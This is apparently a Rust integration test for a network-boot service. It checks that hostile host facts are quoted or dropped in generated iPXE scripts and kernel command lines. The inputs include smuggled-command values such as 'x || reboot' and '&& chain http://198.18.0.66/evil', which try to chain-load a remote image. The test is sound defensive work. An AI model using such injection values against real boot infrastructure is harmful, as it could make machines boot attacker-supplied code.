//! Hosts reporting hostile facts (serial, hostname, product, labels: `#`,
//! `||`, `&&`, `;`, spaces, quotes, `${…}`) get boot scripts from a real
//! streamer whose commands are exactly the template's, read the way iPXE
//! reads them; in the kernel command line each value is one argument, or
//! is left out when no quoting can carry it.

use std::sync::Arc;
use std::time::{Duration, Instant};

use bootfleet_core::admin::Health;
use bootfleet_core::store::SharedStore;
use bootfleet_core::store::etcd::{EtcdOptions, EtcdStore};
use bootfleet_rules_engine::manifest::{Format, parse};
use bootfleet_rules_engine::store::{RulesState, StateOptions};
use bootfleet_rules_engine::template::grammar::{ipxe_script, kernel_args};
use bootfleet_test_support::etcd::EtcdCluster;
use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use tokio_util::sync::CancellationToken;

use crate::{Replica, TOKEN, curl, push, start_replica};

const RULES: &str = r##"
image_profiles:
  - name: tiny
    kernel:
      kernel: tiny/1/vmlinuz
      initrds: [tiny/1/initrd.img]
      cmdline: "console=ttyS0 bf.serial={{facts.serial}} {{facts.hostname}} bf.rack={{facts.label.rack}} bf.model={{facts.model}} ip=${net0/ip}"
  - name: menu
    script: "#!ipxe\necho Booting {{facts.hostname}} serial {{facts.serial}}\nchain http://198.18.0.1/next?rack={{facts.label.rack}}&mac=${net0/mac} || goto failed\n:failed\nexit 1\n"
rules:
  - { name: kernel, match: { mac: "52:54:00:00:71:*" }, image_profile: tiny }
  - { name: script, match: { mac: "52:54:00:00:72:*" }, image_profile: menu }
"##;

/// A rules engine on the shared store, in this process; returns its URL.
async fn rules_engine(store: SharedStore, stop: &CancellationToken) -> String {
    let state = RulesState::start(store, StateOptions { member_id: "rules".into(), history_limit: 5 }, stop);
    state.ready().await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let stop = stop.clone();
    tokio::spawn(async move {
        bootfleet_rules_engine::server::serve(listener, state, &Health::new(), Some(TOKEN.into()), stop).await
    });
    url
}

/// The boot script for a host reporting `facts` (query names), once the
/// replica has the rules that boot it.
fn boot_script(replica: &Replica, mac: &str, facts: &[(&str, &str)]) -> String {
    let mut query = format!("mac={mac}");
    for (name, value) in facts {
        query.push_str(&format!("&{name}={}", utf8_percent_encode(value, NON_ALPHANUMERIC)));
    }
    let url = format!("{}/boot.ipxe?{query}", replica.url());
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let answer = curl(&url, &[]);
        let text = String::from_utf8(answer.body).unwrap();
        match answer.status {
            200 => return text,
            // The replica has not seen the activated rules yet.
            404 => assert!(Instant::now() < deadline, "no script for {mac} within 30 s: {text}"),
            other => panic!("{other}: {text}"),
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// Each command of the script, as iPXE reads it: its words joined by one
/// space (iPXE has no quoting, so a word is what lies between spaces),
/// then the separator; labels as `:name`.
fn commands(script: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in ipxe_script(script) {
        out.extend(line.label.map(|l| format!(":{l}")));
        for command in line.commands {
            let mut text = command.words.join(" ");
            if let Some(then) = command.then {
                text.push_str(&format!(" {then}"));
            }
            out.push(text);
        }
    }
    out
}

/// The kernel's arguments from the script's `kernel` command, as
/// `param[=value]`: iPXE joins the words after the URL with one space,
/// Linux splits that line as `next_arg` does.
fn kernel_arguments(script: &str) -> Vec<String> {
    let line = ipxe_script(script)
        .into_iter()
        .flat_map(|l| l.commands)
        .find(|c| c.words.first().map(String::as_str) == Some("kernel"))
        .expect("a kernel command");
    let cmdline = line.words[4..].join(" ");
    kernel_args(&cmdline)
        .into_iter()
        .map(|(p, v)| {
            let mut arg = String::from_utf8(p).unwrap();
            if let Some(v) = v {
                arg.push('=');
                arg.push_str(&String::from_utf8(v).unwrap());
            }
            arg
        })
        .collect()
}

#[test]
fn hostile_facts_stay_inside_their_words() {
    let etcd = EtcdCluster::start(1).unwrap();
    let endpoint = etcd.endpoints().join(",");
    let dir = tempfile::tempdir().unwrap();
    let replica = start_replica(&["--store", "etcd", "--etcd-endpoints", &endpoint], dir.path(), "a", "");
    let runtime = tokio::runtime::Runtime::new().unwrap();
    let stop = CancellationToken::new();
    runtime.block_on(async {
        let store: SharedStore =
            Arc::new(EtcdStore::connect(EtcdOptions::new(etcd.endpoints())).await.unwrap());
        let url = rules_engine(store, &stop).await;
        push(&replica, dir.path(), "tiny", "1", &[("vmlinuz", vec![1; 4096]), ("initrd.img", vec![2; 4096])])
            .await;
        let mut admin = bootfleet_rules_engine::client::connect(&url, Some(TOKEN)).await.unwrap();
        let options = bootfleet_rules_engine::client::ApplyOptions { activate: true, ..Default::default() };
        let manifest = parse(RULES, Format::Yaml).unwrap();
        bootfleet_rules_engine::client::apply_manifest(&mut admin, manifest, options).await.unwrap();
    });
    let base = replica.url();
    let kernel = format!("kernel --name kernel {base}/images/tiny/1/vmlinuz");
    let tail = |mac: &str| {
        vec![
            format!("initrd --name initrd0 {base}/images/tiny/1/initrd.img ||"),
            "goto failed".to_owned(),
            format!("imgfetch --name bfreport {base}/report/{mac}/loaded ||"),
            "echo Bootfleet: boot report not delivered".to_owned(),
            "imgfree bfreport ||".to_owned(),
            "echo".to_owned(),
            "boot ||".to_owned(),
            "goto failed".to_owned(),
            ":failed".to_owned(),
            "echo Bootfleet: network boot failed; booting from the local disk".to_owned(),
            "exit 1".to_owned(),
        ]
    };

    // Values with spaces, `#`, `&&`, `=` and non-ASCII that a quoted
    // kernel argument can carry: each is one argument, quoted where needed.
    let script = boot_script(
        &replica,
        "52:54:00:00:71:01",
        &[
            ("serial", "To Be Filled By O.E.M."),
            ("hostname", "evil=x y"),
            ("label.rack", "r7#a&&b|c"),
            ("product", "Müller à la carte"),
        ],
    );
    let args = "console=ttyS0 \"bf.serial=To Be Filled By O.E.M.\" \"evil=x y\" bf.rack=r7#a&&b|c \
                \"bf.model=Müller à la carte\" ip=${net0/ip} initrd=initrd0";
    let mut expected = vec!["imgfree".to_owned(), format!("{kernel} {args} ||"), "goto failed".to_owned()];
    expected.extend(tail("52-54-00-00-71-01"));
    assert_eq!(commands(&script), expected, "{script}");
    assert_eq!(
        kernel_arguments(&script),
        [
            "console=ttyS0",
            "bf.serial=To Be Filled By O.E.M.",
            "evil=x y",
            "bf.rack=r7#a&&b|c",
            "bf.model=Müller à la carte",
            "ip=${net0/ip}",
            "initrd=initrd0",
        ],
        "{script}"
    );

    // Values that would start a comment, separate commands, expand a
    // setting or close the quotes: left out, every other word as written.
    let script = boot_script(
        &replica,
        "52:54:00:00:71:02",
        &[
            ("serial", "x || reboot"),
            ("hostname", "h #c"),
            ("label.rack", "${net0/ip}"),
            ("product", "q\" && chain http://198.18.0.66/evil"),
        ],
    );
    let args = "console=ttyS0 bf.serial= bf.rack= bf.model= ip=${net0/ip} initrd=initrd0";
    let mut expected = vec!["imgfree".to_owned(), format!("{kernel} {args} ||"), "goto failed".to_owned()];
    expected.extend(tail("52-54-00-00-71-02"));
    assert_eq!(commands(&script), expected, "{script}");

    // In an operator's iPXE script nothing can be quoted: a value with a
    // space, or one that would start a word with `#`, is left out; a `#`
    // or `;` inside a word and iPXE's own `${…}` stay.
    let script = boot_script(
        &replica,
        "52:54:00:00:72:01",
        &[("serial", "A1 && chain http://198.18.0.66/evil"), ("hostname", "#evil"), ("label.rack", "r#1;x")],
    );
    assert_eq!(
        commands(&script),
        [
            "echo Booting serial",
            "chain http://198.18.0.1/next?rack=r#1;x&mac=${net0/mac} ||",
            "goto failed",
            ":failed",
            "exit 1",
        ],
        "{script}"
    );
    stop.cancel();
}
